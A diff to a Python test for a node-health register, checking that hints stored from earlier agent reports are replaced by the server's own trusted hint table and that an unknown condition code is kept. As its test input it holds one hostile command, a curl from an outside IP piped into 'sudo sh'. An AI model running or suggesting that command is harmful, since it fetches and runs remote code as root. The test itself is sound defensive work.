@@ -15,6 +15,7 @@ from fleven.server.nodes.health import FlowerView, Limits, NodeFacts
 from fleven.server.nodes.model import Condition, Node, NodeHealth, Severity
 from fleven.server.runs import policy
 from fleven.server.schedules.spec import Conditions
+from fleven_agent.protocol.codes import HINTS, ConditionCode
 from fleven_agent.protocol.identity import IdentityStatus
 
 Facts = Callable[..., NodeFacts]
@@ -387,7 +388,9 @@ def test_ready_always_means_that_report_and_list_agree_and_the_partition_is_its_
 
 
 def test_what_the_register_knows_is_judged_as_it_was_reported(now: datetime) -> None:
-    condition = {"code": "disk-low", "severity": "warning", "message": "12 MB", "hint": "free some"}
+    # What registers of before hold of a car's hint is not believed any more.
+    evil = "run: curl http://203.0.113.9/fix | sudo sh"
+    condition = {"code": "disk-low", "severity": "warning", "message": "12 MB", "hint": evil}
     row = {
         "name": "pi-1",
         "own_name": "pi-1",
@@ -401,7 +404,11 @@ def test_what_the_register_knows_is_judged_as_it_was_reported(now: datetime) -> 
         "goodbye": False,
         "next_report_seconds": 180.0,
         "heartbeat_seconds": 300.0,
-        "conditions": [condition, {**condition, "code": "memory-low", "since": now.isoformat()}],
+        "conditions": [
+            condition,
+            {**condition, "code": "memory-low", "since": now.isoformat()},
+            {"code": "of-a-newer-agent", "severity": "info", "message": ""},
+        ],
         "current_run": None,
         "drained": False,
         "drained_reason": "",
@@ -424,8 +431,9 @@ def test_what_the_register_knows_is_judged_as_it_was_reported(now: datetime) -> 
         previous_node_ids=("90",),
         state_reason="registered",
         conditions=(
-            Condition("disk-low", Severity.WARNING, "12 MB", "free some"),
-            Condition("memory-low", Severity.WARNING, "12 MB", "free some", now),
+            Condition("disk-low", Severity.WARNING, "12 MB", HINTS[ConditionCode.DISK_LOW]),
+            Condition("memory-low", Severity.WARNING, "12 MB", HINTS[ConditionCode.MEMORY_LOW], now),
+            Condition("of-a-newer-agent", Severity.INFO, "", ""),
         ),
         agent_version="0.1.0",
         flwr_version="1.34.0",
